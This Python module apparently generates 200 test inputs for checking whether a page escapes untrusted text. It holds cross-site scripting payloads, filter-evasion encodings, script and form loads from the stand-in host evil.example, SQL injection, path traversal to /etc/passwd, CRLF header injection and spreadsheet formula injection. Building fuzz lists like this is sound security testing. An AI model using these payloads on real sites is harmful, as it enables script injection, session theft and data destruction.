# Hermes
# SPDX-License-Identifier: Apache-2.0
"""Two hundred texts that become markup, attributes, addresses or scripts in a page that does not escape them."""

ACTIONS = ["hit()", "alert(1)", "document.title='hit'"]

# The characters before the markup. They end a text, an attribute, an element, a comment or a script.
WAYS_OUT = ["", "\">", "'>", "</title>", "-->", "]]>", "\\\">", "</script>"]

MARKUP = [
    "<script>{0}</script>", "<img src=x onerror={0}>", "<svg/onload={0}>", "<iframe srcdoc='<script>{0}</script>'>",
    "<body onload={0}>", "<details open ontoggle={0}>", "<video><source onerror={0}>", "<audio src onerror={0}>",
    "<input autofocus onfocus={0}>", "<a href=javascript:{0}>x</a>", "<object data=javascript:{0}>",
    "<embed src=javascript:{0}>", "<marquee onstart={0}>", "<style onload={0}>", "<b id=hit>x</b>",
]

SINGLE = [
    "javascript:hit()", "JaVaScRiPt:hit()", "java\tscript:hit()", " javascript:hit()", "\x01javascript:hit()",
    "javascript://x%0ahit()", "data:text/html,<script>hit()</script>", "vbscript:msgbox(1)", "//evil.example/x.js",
    "https://evil.example/\" onmouseover=hit() x=\"", "https://evil.example/'onerror='hit()", "&lt;b&gt;&#60;i&#62;",
    "<!--", "<!--><img src=x onerror=hit()>", "<![CDATA[<b>]]>", "<?xml version='1.0'?><b>", "{{7*7}}${7*7}#{7*7}",
    "{{constructor.constructor('hit()')()}}", "`${hit()}`", "\\u003cscript\\u003ehit()\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=hit()\\x3e", "%3Cscript%3Ehit()%3C/script%3E", "&#x3C;script&#x3E;hit()", "<scr<script>ipt>hit()",
    "<<script>hit();//<</script>", "<script/x>hit()</script >", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<base href=//evil.example>", "<meta http-equiv=refresh content=0;url=//evil.example>", "<link rel=stylesheet href=//e>",
    "<style>*{display:none}</style>", "<form action=//evil.example><input>", "<button formaction=javascript:hit()>x",
    "<math><mi xlink:href='javascript:hit()'>x", "<svg><a xlink:href=javascript:hit()>x", "<svg><use href='data:x'/>",
    "<svg><animate onbegin=hit()>", "<svg><set attributeName=onload to=hit()>", "<svg><script>hit()</script>",
    "<table background=javascript:hit()>", "<div style=background:url(//evil.example)>", "<x onclick=hit()>y",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>", "<template><img src=x onerror=hit()>",
    "<select><option><img src=x onerror=hit()>", "<textarea></textarea><img src=x onerror=hit()>",
    "<keygen autofocus onfocus=hit()>", "<isindex action=javascript:hit()>", "<frameset onload=hit()>",
    "<plaintext>", "<xmp><img src=x onerror=hit()>", "<dialog open onclose=hit()>", "<portal src=//evil.example>",
    "<slot onslotchange=hit()>", "' onfocus='hit()' autofocus='", "\" onfocus=\"hit()\" autofocus=\"", "x\r\nSet-Cookie: a=b",
    "data: x\n\nevent: hit\ndata: y", "\u2028hit()\u2029", "\u202e)1(trela", "\ufeff<script>hit()</script>",
    "\uff1cscript\uff1ehit()\uff1c/script\uff1e", "<\x00script>hit()</script>", "__proto__", "constructor", "toString",
    "[object Object]", "undefined", "null", "NaN", "-1", "';DROP TABLE users;--", "' OR '1'='1", "$(hit)", "%s%n%x",
    "../../../etc/passwd", "=HYPERLINK(\"//evil.example\")", "<img src=`x`onerror=hit()>", "<img/src/onerror=hit()>",
    "<a href='&#106;avascript:hit()'>x", "<a href=\"java&#10;script:hit()\">x", "<p/onpointerenter=hit()>x",
    "<style>@import'//evil.example'</style>", "<img srcset=\",,,,,x\" onerror=hit()>", "<input type=image src=x onerror=hit()>",
    "<video poster=javascript:hit()>", "<track default src=x onerror=hit()>", "<img src onerror=hit() src=x>",
    "<bgsound src=javascript:hit()>", "<layer src=//evil.example>", "<object type=text/x-scriptlet data=//e>",
]

_made = list(SINGLE)
for _way in WAYS_OUT:
    for _number, _one in enumerate(MARKUP):
        _made.append(_way + _one.format(ACTIONS[_number % len(ACTIONS)]))
PAYLOADS = list(dict.fromkeys(_made))[:200]
assert len(PAYLOADS) == 200, len(PAYLOADS)


def name(number: int, text: str, characters: int = 64) -> str:
    """Returns the payload as a unique name, without control characters, cut to the length of a name."""
    end = f"~{number}"
    text = "".join(character for character in text if character.isprintable()).strip()
    return text[: characters - len(end)] + end
